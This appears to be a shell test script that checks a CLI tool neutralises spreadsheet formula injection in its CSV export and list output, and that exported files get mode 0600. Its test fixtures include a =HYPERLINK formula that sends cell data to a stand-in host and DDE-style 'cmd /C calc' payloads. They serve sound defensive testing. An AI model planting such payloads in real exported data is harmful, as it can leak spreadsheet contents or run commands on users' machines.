#!/bin/sh
# CSV a spreadsheet can trust (issue 12, finding 9): `export --format csv`
# and `list --csv` neutralise every text cell that starts with = + - @,
# a tab, a CR or a LF (OWASP's list, and LF): a single quote is put in
# front and the cell is quoted.  A cell that already starts with quotes
# followed by one of these gets one more quote, so that dropping one
# leading quote gives the text back exactly.  Cells that hold numbers (id,
# rev) are written as they are.  --csv-raw writes every cell as stored.
# export -o writes its file with mode 0600 whatever the umask.
. "$(dirname "$0")/lib.sh"
need python3

new_store
ok add --title '=HYPERLINK("http://x.test/?"&A1,"click")' --when 2024-03-12 --notes "$(printf '\t=1+1')"
ok add --title '+1+cmd|'"'"' /C calc'"'"'!A0' --when -0500 --where '@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0'
ok add --title '-2+3' --when 2024-03-14 --notes "$(printf '\r=1')" --tag '=tag' --tag 'plain'
ok add --title "'=already quoted" --when 2024-03-15 --notes "$(printf '\n@x')"
ok add --title "'Tis plain" --when 2024-03-16

# cells FILE: the CSV parsed, as Python's repr of a list of rows.
check_cells() { # FILE MODE (safe|raw)
  python3 - "$1" "$2" <<'PY' || fail "CSV cells ($2) are not as expected: $1"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")))
mode = sys.argv[2]
t = {r["id"]: r for r in rows}
def want(s):
    return s if mode == "raw" else "'" + s
assert t["1"]["title"] == want('=HYPERLINK("http://x.test/?"&A1,"click")'), t["1"]["title"]
assert t["1"]["notes"] == want("\t=1+1"), repr(t["1"]["notes"])
assert t["2"]["title"] == want("+1+cmd|' /C calc'!A0"), t["2"]["title"]
assert t["2"]["when"] == want("-0500"), t["2"]["when"]
assert t["2"]["where"] == want("@SUM(1+1)*cmd|' /C calc'!A0"), t["2"]["where"]
assert t["3"]["title"] == want("-2+3"), t["3"]["title"]
assert t["3"]["notes"] == want("\r=1"), repr(t["3"]["notes"])
assert t["3"]["tags"] == want("=tag;plain"), t["3"]["tags"]
assert t["4"]["title"] == want("'=already quoted"), t["4"]["title"]
assert t["4"]["notes"] == want("\n@x"), repr(t["4"]["notes"])
assert t["5"]["title"] == "'Tis plain", t["5"]["title"]
assert [r["id"] for r in rows] == ["1", "2", "3", "4", "5"]
if mode == "safe":
    for r in rows:
        for k, v in r.items():
            assert not v or v[0] not in "=+-@\t\r\n", (k, v)
PY
}

# -- export --format csv: safe by default, the guarded cells quoted
ok export --format csv
cp "$TMP/out" "$TMP/safe.csv"
check_cells "$TMP/safe.csv" safe
out_has "\"'=HYPERLINK"
out_has "\"'-0500\""
out_has ",'Tis plain,"
ok export --format csv --csv-raw
check_cells "$TMP/out" raw

# -- list --csv: the same rows
ok list --csv --sort id
check_cells "$TMP/out" safe
ok list --csv --csv-raw --sort id
check_cells "$TMP/out" raw

# -- --csv-raw only goes with CSV
expect_rc 2 export --csv-raw
err_has "--csv-raw"
expect_rc 2 export --format jsonl --csv-raw
expect_rc 2 list --csv-raw
err_has "--csv-raw"

# -- export -o: the file has the store's private mode, whatever the umask
(umask 000 && "$ATT" --store "$STORE" export --format csv -o "$TMP/x.csv") ||
  fail "export -o failed"
mode=$(stat -c %a "$TMP/x.csv")
[ "$mode" = 600 ] || fail "export -o wrote mode $mode, expected 600"
cmp -s "$TMP/x.csv" "$TMP/safe.csv" || fail "export -o differs from export to stdout"

done_ok
